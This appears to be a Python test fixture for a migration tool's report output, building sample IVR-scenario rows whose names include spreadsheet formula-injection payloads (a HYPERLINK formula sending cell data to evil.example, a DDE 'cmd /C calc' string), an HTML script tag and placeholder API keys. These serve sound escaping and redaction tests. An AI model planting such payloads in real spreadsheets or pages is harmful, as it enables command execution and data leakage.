"""A hand-built run with every row state, hostile names and legitimate numbers.

Shared by the report tests (imported as ``test_reports_sample``); its own tests pin the sample so
that the other modules can rely on it.
"""

from __future__ import annotations

from migrate.reports import (
    ReportAttempt,
    ReportChange,
    ReportData,
    ReportRow,
    SheetStep,
)

T0 = 1_771_236_000.0  # 2026-02-16T10:00:00Z

HOSTILE_NAMES = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "  =1+1",
    "\t=1",
    "\r=1",
)
E164 = "+41793026727"
E164_NEW = "+41793026728"
LONG_ERROR = "Request body is not valid. " + "x" * 900
SCRIPT_TAG = "<script>alert('pwned')</script> & <b>bold</b>"


def _id(n: int) -> str:
    return f"{n:032X}"


def sender_steps(row: int) -> tuple[SheetStep, ...]:
    return (
        SheetStep("sms-sender", {"old": "Nordlicht", "new": "NordBrand"}, row, "rebrand", "*"),
        SheetStep(
            "url",
            {
                "find": "https://orders.nordlicht-outdoor.example",
                "replace": "https://orders.nordbrand.example",
            },
            row + 1,
            target="*",
        ),
    )


def number_steps(row: int) -> tuple[SheetStep, ...]:
    return (SheetStep("number", {"old": E164, "new": E164_NEW}, row, target="name:*"),)


def sample_rows() -> list[ReportRow]:
    """One row per state (failed twice: retryable and permanent), with hostile names."""
    return [
        ReportRow(
            _id(1),
            "Order status lookup",
            "updated",
            sender_steps(2),
            attempts=3,
            http_status=200,
            before_fingerprint="a" * 64,
            after_fingerprint="b" * 64,
            planned_at=T0,
            state_at=T0 + 60,
        ),
        ReportRow(_id(2), HOSTILE_NAMES[0], "unchanged", sender_steps(2), planned_at=T0),
        ReportRow(
            _id(3),
            HOSTILE_NAMES[1],
            "invalid",
            sender_steps(2),
            error="script[3].sendSms.from: sender id 'NordBrandLongName' is too long",
            planned_at=T0,
        ),
        ReportRow(
            _id(4),
            None,
            "not_found",
            number_steps(4),
            http_status=404,
            error_class="NotFound",
            error="no scenario with this id",
        ),
        ReportRow(
            _id(5),
            HOSTILE_NAMES[2],
            "conflict",
            sender_steps(2),
            error="changed since the plan (updateTime 2026-02-16T09:00:00.000+0000)",
            attempts=2,
        ),
        ReportRow(
            _id(6),
            HOSTILE_NAMES[3],
            "failed",
            number_steps(4),
            retryable=True,
            http_status=503,
            error_class="ServerError",
            error="=cmd() service unavailable",
            attempts=6,
        ),
        ReportRow(
            _id(7),
            SCRIPT_TAG,
            "failed",
            sender_steps(2),
            retryable=False,
            http_status=400,
            error_class="BadRequest",
            error=LONG_ERROR,
            attempts=1,
        ),
        ReportRow(_id(8), HOSTILE_NAMES[4], "rolled_back", number_steps(4), attempts=4),
        ReportRow(
            _id(9),
            HOSTILE_NAMES[5],
            "rollback_conflict",
            number_steps(4),
            error="changed by someone else since the migration",
        ),
        ReportRow(_id(10), HOSTILE_NAMES[6], "planned", number_steps(4)),
    ]


def sample_changes() -> list[ReportChange]:
    """Changes of the updated, conflicted, failed, rolled-back and planned scenarios.

    The conflicted one was changed by its sms-sender row only (row 2, as journaled); the failed
    permanent one by its url row only, in the shape of an older journal (no sheet row).
    """
    return [
        ReportChange(
            _id(1),
            "script[3].if.then[2]",
            "sendSms.from",
            "Nordlicht",
            "NordBrand",
            "sms-sender",
            sheet_row=2,
        ),
        ReportChange(
            _id(1),
            "script[2]",
            "request",
            "https://orders.nordlicht-outdoor.example/api/orders/${orderNumber}/status",
            "https://orders.nordbrand.example/api/orders/${orderNumber}/status",
            "url",
        ),
        ReportChange(_id(8), "script[2]", "dialToMany[0].number", E164, E164_NEW, "number"),
        ReportChange(_id(8), "script[2]", "options.maxCallDuration", -5, None, "number"),
        ReportChange(_id(10), "script[2]", "dial", E164, E164_NEW, "number"),
        ReportChange(_id(10), "", "name", "=1+1", "@SUM(2)", "number"),
        ReportChange(
            _id(5), "script[0]", "sendSms.from", "Nordlicht", "NordBrand", "sms-sender", 2
        ),
        ReportChange(
            _id(7),
            "script[1]",
            "request",
            "https://orders.nordlicht-outdoor.example/a",
            "https://orders.nordbrand.example/a",
            "url",
        ),
    ]


def sample_attempts() -> list[ReportAttempt]:
    attempts = [
        ReportAttempt("GET", f"/voice/ivr/1/scenarios/{_id(n)}", _id(n), 200, None, T0 + n, 0.05)
        for n in range(1, 11)
    ]
    attempts += [
        ReportAttempt(
            "PUT", f"/voice/ivr/1/scenarios/{_id(1)}", _id(1), 429, "RateLimited", T0 + 20, 0.1
        ),
        ReportAttempt("PUT", f"/voice/ivr/1/scenarios/{_id(1)}", _id(1), 200, None, T0 + 30, 0.1),
        ReportAttempt("PUT", f"/voice/ivr/1/scenarios/{_id(8)}", _id(8), 200, None, T0 + 40, 0.1),
        ReportAttempt(
            "PUT", f"/voice/ivr/1/scenarios/{_id(6)}", _id(6), 503, "ServerError", T0 + 50, 0.1
        ),
        ReportAttempt(
            "PUT", f"/voice/ivr/1/scenarios/{_id(7)}", _id(7), 400, "BadRequest", T0 + 60, 0.1
        ),
    ]
    return attempts


def sample_data() -> ReportData:
    return ReportData(
        metadata={
            "run_id": "20260216-100000-demo",
            "phase": "apply",
            "tool_version": "0.1.0",
            "operator": "ops@example",
            "base_url": "https://xyz.api.infobip.com",
            "sheet": "=sheet.csv",
            "write_rate": "6/60s",
            "started_at": T0,
            "finished_at": T0 + 61,
            "api_key": "SECRET-KEY-123",
            "authorization": "App SECRET-KEY-123",
        },
        rows=sample_rows(),
        changes=sample_changes(),
        attempts=sample_attempts(),
    )


def large_data(scenarios: int) -> ReportData:
    """A synthetic run of ``scenarios`` rows, mostly updated, two changes each."""
    states = ["updated"] * 90 + ["unchanged"] * 6 + ["failed"] * 2 + ["conflict", "invalid"]
    rows, changes, attempts = [], [], []
    for n in range(scenarios):
        state = states[n % len(states)]
        sid = _id(n + 1)
        rows.append(
            ReportRow(
                sid,
                f"Scenario {n} <&> Kovač & Partners ${{x}}",
                state,
                sender_steps(2),
                retryable=True if state == "failed" else None,
                error="ServerError: 503" if state == "failed" else None,
                error_class="ServerError" if state == "failed" else None,
                attempts=2,
            )
        )
        if state != "unchanged":
            text = f"Order {n}: track your parcel at ${{trackingUrl}} " + "lorem ipsum " * 20
            changes.append(
                ReportChange(
                    sid,
                    "script[3].if.then[2]",
                    "sendSms.from",
                    "Nordlicht",
                    "NordBrand",
                    "sms-sender",
                )
            )
            changes.append(
                ReportChange(
                    sid,
                    "script[3].if.then[2]",
                    "sendSms.text",
                    "Nordlicht " + text,
                    "NordBrand " + text,
                    "sms-text",
                )
            )
        if state == "updated":
            attempts.append(ReportAttempt("PUT", f"/s/{sid}", sid, 200, None, T0 + 10.0 * n, 0.1))
    return ReportData({"run_id": "large", "write_rate": "6/min"}, rows, changes, attempts)


def test_sample_has_every_state() -> None:
    states = {row.state for row in sample_rows()}
    assert states == {
        "planned",
        "unchanged",
        "invalid",
        "not_found",
        "updated",
        "conflict",
        "failed",
        "rolled_back",
        "rollback_conflict",
    }
    failed = [row.retryable for row in sample_rows() if row.state == "failed"]
    assert sorted(bool(r) for r in failed) == [False, True]


def test_large_sample_is_large() -> None:
    data = large_data(1000)
    assert len(data.rows) == 1000
    assert len(data.changes) > 1000
